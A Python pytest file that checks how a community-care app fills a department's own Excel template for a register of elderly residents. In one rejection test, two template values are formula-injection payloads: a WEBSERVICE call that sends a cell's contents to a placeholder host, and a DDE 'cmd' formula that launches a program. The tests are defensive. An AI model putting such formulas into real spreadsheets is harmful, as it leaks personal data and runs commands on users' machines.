"""A form in the department's own workbook: filled at its named cells, and never reaching out."""

import io
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from liren.core.errors import LirenError
from liren.ledgers import selectors
from liren.ledgers.services.forms_taking import take_workbook
from tests.factories.neighbourhood import Neighbourhood
from tests.ledgers.forms_scene import ELDERS, elders, open_round
from tests.ledgers.test_forms_returning import broken, send


def own_workbook(
    *, beneath: bool = False, merged: str = "", sum_of: str = "COUNTA(B5:B900)"
) -> bytes:
    """A department's own list: a sum above, headings with names, a formula in the first row."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "街道 表"
    sheet["A1"] = "街道独居老人名册"
    sheet["B2"] = f"={sum_of}"
    for at, words in enumerate(("姓名", "电话", "探访日期", "天数"), start=2):
        sheet.cell(4, at).value = words
    sheet["E5"] = '=IF(D5="","",TODAY()-DATEVALUE(D5))'
    if beneath:
        sheet["A9"] = "合计"
    if merged:
        sheet.merge_cells(merged)
    for name, place in (("XM", "$B$4"), ("DH", "$C$4"), ("RQ", "$D$4")):
        book.defined_names[name] = DefinedName(name, attr_text=f"'街道 表'!{place}")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def own_form() -> str:
    head = ELDERS[: ELDERS.index("[[column]]")].replace("elder-care", "own-list")
    columns = (
        ("name", "姓名", 'source = "person.name"', "XM"),
        ("phone", "电话", 'source = "person.phone"', "DH"),
        ("visited", "探访日期", 'asked = "date"', "RQ"),
    )
    return head + "".join(
        f'\n[[column]]\nkey = "{key}"\nheader = ["{words}"]\n{what}\ncell = "{cell}"\n'
        for key, words, what, cell in columns
    )


def test_the_departments_own_workbook_keeps_its_formulas(
    town: Neighbourhood, now: datetime
) -> None:
    people = elders(town, now)
    row = open_round(town, now, own_form(), template=own_workbook())
    data = take_workbook(row=row, by=town.users["worker"], now=now)
    book = load_workbook(io.BytesIO(data))
    sheet = book["街道 表"]
    assert sheet["B2"].value == "=COUNTA(B5:B900)"
    assert sheet["B5"].value == people[0].name
    assert [sheet[f"E{n}"].value for n in (5, 7)] == [
        f'=IF(D{n}="","",TODAY()-DATEVALUE(D{n}))' for n in (5, 7)
    ]
    sheet["D5"] = "2026-11-12"
    out = io.BytesIO()
    book.save(out)
    back = send(row, io.BytesIO(out.getvalue()), town, now)
    assert (back.taken, back.unchanged, back.problems) == (1, 2, 0)
    assert selectors.answers_of(row)[people[0].pk].values == {"visited": "2026-11-12"}


@pytest.mark.parametrize("sum_of", ['COUNTIF(B5:B900,"a|b [x]!")', "SUM(Table1[天数])"])
def test_what_reckons_inside_the_workbook_stays(
    town: Neighbourhood, now: datetime, sum_of: str
) -> None:
    row = open_round(town, now, own_form(), template=own_workbook(sum_of=sum_of))
    data = take_workbook(row=row, by=town.users["worker"], now=now)
    assert load_workbook(io.BytesIO(data))["街道 表"]["B2"].value == f"={sum_of}"


def test_rows_begin_below_a_heading_of_two_rows(town: Neighbourhood, now: datetime) -> None:
    people = elders(town, now)
    row = open_round(town, now, own_form(), template=own_workbook(merged="B4:B5"))
    data = take_workbook(row=row, by=town.users["worker"], now=now)
    sheet = load_workbook(io.BytesIO(data))["街道 表"]
    assert [sheet[f"B{n}"].value for n in (4, 6, 7)] == ["姓名", people[0].name, people[1].name]


@pytest.mark.parametrize(
    ("template", "code"),
    [
        (None, "ledgers.template_missing"),
        (own_workbook(beneath=True), "ledgers.template_not_empty"),
        (own_workbook(merged="B9:D9"), "ledgers.template_not_empty"),
        (
            own_workbook(sum_of='WEBSERVICE("https://a.example/?"&B5)'),
            "ledgers.template_reaches_out",
        ),
        (own_workbook(sum_of="cmd|'/c calc'!A1"), "ledgers.template_reaches_out"),
        (broken()[3], "ledgers.cell_unknown"),
        (b"PK\x03\x04nothing", "core.file_unreadable"),
    ],
    ids=[
        "none",
        "sums below",
        "merged below",
        "asks the web",
        "asks a program",
        "no names",
        "broken",
    ],
)
def test_a_workbook_that_could_not_be_filled_is_refused_when_it_is_asked(
    town: Neighbourhood, now: datetime, template: bytes | None, code: str
) -> None:
    with pytest.raises(LirenError) as refused:
        open_round(town, now, own_form(), template=template)
    assert refused.value.code == code


def test_a_workbook_without_named_columns(town: Neighbourhood, now: datetime) -> None:
    with pytest.raises(LirenError) as refused:
        open_round(town, now, ELDERS, template=own_workbook())
    assert refused.value.code == "ledgers.template_unnamed"
